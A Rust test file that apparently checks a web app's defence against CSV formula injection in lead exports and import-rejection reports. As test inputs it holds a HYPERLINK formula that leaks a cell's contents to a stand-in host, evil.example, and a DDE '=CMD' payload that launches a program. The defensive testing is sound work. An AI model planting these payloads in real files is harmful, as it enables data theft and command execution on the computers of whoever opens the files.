//! Security issue #12, the CSV items: formulas in exports and reports, ragged import files, and
//! uploads left behind on disk.

use agency_engine::auth::roles::Role;
use reqwest::StatusCode;

use crate::harness::{input_value, spawn_app, TestApp};

/// The cells of a CSV text, row by row.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_string).collect())
        .collect()
}

/// Fetches the rejected-rows report of an import.
async fn report(app: &TestApp, import_id: i64) -> String {
    let r = app.get(&format!("/leads/imports/{import_id}/report")).await;
    assert_eq!(r.status(), StatusCode::OK);
    r.text().await.unwrap()
}

// ---- 4. formula injection -------------------------------------------------------------------

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_sent_as_a_quote_form_name_is_exported_as_text() {
    let app = spawn_app().await;
    let html = app.page("/quote").await.1;
    let started = input_value(&html, "started");
    let r = app
        .post_form(
            "/quote",
            &[
                ("first_name", HYPERLINK),
                ("last_name", "@SUM(1+1)"),
                ("email", "eve@example.com"),
                ("zip", "33101"),
                ("started", &started),
            ],
        )
        .await;
    assert_eq!(r.headers()["location"], "/quote/thanks");

    app.login_as(Role::Owner).await;
    let r = app.get("/leads/export").await;
    assert_eq!(r.status(), StatusCode::OK);
    let rows = cells(&r.text().await.unwrap());
    assert_eq!(rows.len(), 2, "the header and the lead: {rows:?}");
    let (first, last) = (&rows[1][5], &rows[1][6]);
    assert_eq!(first, &format!("'{HYPERLINK}"));
    assert_eq!(last, "'@SUM(1+1)");
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would run"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_cells_of_rejected_import_rows_are_reported_as_text() {
    let app = spawn_app().await;
    app.login_as(Role::Owner).await;
    let csv = "first,last,email\n\
               Ana,Diaz,ana@example.com\n\
               =CMD|'/C calc'!A0,Li,not-an-email\n\
               Bo,+1+1,-2@\n";
    let html = app.upload_lead_csv("leads.csv", csv.into()).await.text().await.unwrap();
    let id = app
        .start_lead_import(
            &input_value(&html, "upload"),
            "leads.csv",
            &["first_name", "last_name", "email"],
        )
        .await;
    let done = app.finished_import(id, 30).await;
    assert_eq!((done.created_count, done.rejected_count), (1, 2));
    let rows = cells(&report(&app, id).await);
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert_eq!(rows[1][2..], ["'=CMD|'/C calc'!A0", "Li", "not-an-email"]);
    assert_eq!(rows[2][2..], ["Bo", "'+1+1", "'-2@"]);
}
